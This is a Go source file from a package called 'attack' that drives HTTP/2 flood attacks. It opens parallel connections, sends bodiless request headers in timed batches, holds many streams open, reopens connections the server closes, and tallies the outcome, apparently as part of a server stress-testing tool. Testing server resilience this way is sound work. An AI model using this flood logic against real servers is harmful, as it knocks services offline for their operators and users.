package attack

import (
	"context"
	"sync"
	"time"
)

// mostTries is how often an attacker opens a connection again that the server has closed.
const mostTries = 10

// flood sends all units of a connection over HTTP/2: begin makes what the flood needs, send sends one unit. A connection that the
// server closes is opened again.
func flood(o h2options, begin func(*h2conn) error, send func(c *h2conn, i int) error) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error {
		sent := 0
		for try := 0; try < mostTries && sent < a.units && ctx.Err() == nil; try++ {
			c, err := a.dialHTTP2(ctx, o)
			if err != nil {
				return err
			}
			if begin != nil {
				if err := begin(c); err != nil {
					continue
				}
			}
			for sent < a.units && ctx.Err() == nil && !c.ended() {
				n, err := c.sendBatch(sent, min(batch, a.units-sent), send)
				sent += n
				if err != nil {
					break
				}
			}
			_ = c.confirm() // what failed shows in what became of the connection
		}
		return nil
	}
}

// batch is how many units are sent before the attacker looks whether the server has had enough. Between two batches it waits as long as a
// server that keeps up needs for one: what lies in the buffers of a connection when the server closes it would count as sent.
const (
	batch      = 1000
	batchPause = 5 * time.Millisecond
)

// sendBatch sends up to n units, and returns how many it has sent.
func (c *h2conn) sendBatch(first, n int, send func(c *h2conn, i int) error) (int, error) {
	for i := range n {
		if err := send(c, first+i); err != nil {
			return i, err
		}
		c.tally.sent.Add(1)
	}
	err := c.flush()
	time.Sleep(batchPause)
	return n, err
}

// ask is a unit of a flood: one request without a body.
func ask(block []byte) func(*h2conn, int) error {
	return func(c *h2conn, _ int) error {
		_, err := c.headers(block, true)
		return err
	}
}

// hold opens many streams at the beginning of a flood.
func hold(streams int, block []byte) func(*h2conn) error {
	return func(c *h2conn) error {
		for range streams {
			if _, err := c.headers(block, true); err != nil {
				return err
			}
		}
		return c.flush()
	}
}

// conduct runs the script on all connections of an attack until ctx is over, counts what happens, and closes the connections then.
func conduct(ctx context.Context, row Attack, target *Target, t *tally) {
	opened := &links{}
	var all sync.WaitGroup
	for range row.Connections {
		all.Go(func() {
			a := &attacker{Target: target, units: row.each(), tally: t, opened: opened}
			_ = row.script(ctx, a) // a connection that failed is counted
		})
	}
	<-ctx.Done()
	opened.interrupt()
	all.Wait()
	opened.finish(t)
}

// every calls do again and again, with a pause between, until the attack is over or do fails.
func every(ctx context.Context, pause time.Duration, do func(i int) error) error {
	ticks := time.NewTicker(pause)
	defer ticks.Stop()
	for i := 0; ; i++ {
		if err := do(i); err != nil {
			return err
		}
		select {
		case <-ctx.Done():
			return nil
		case <-ticks.C:
		}
	}
}
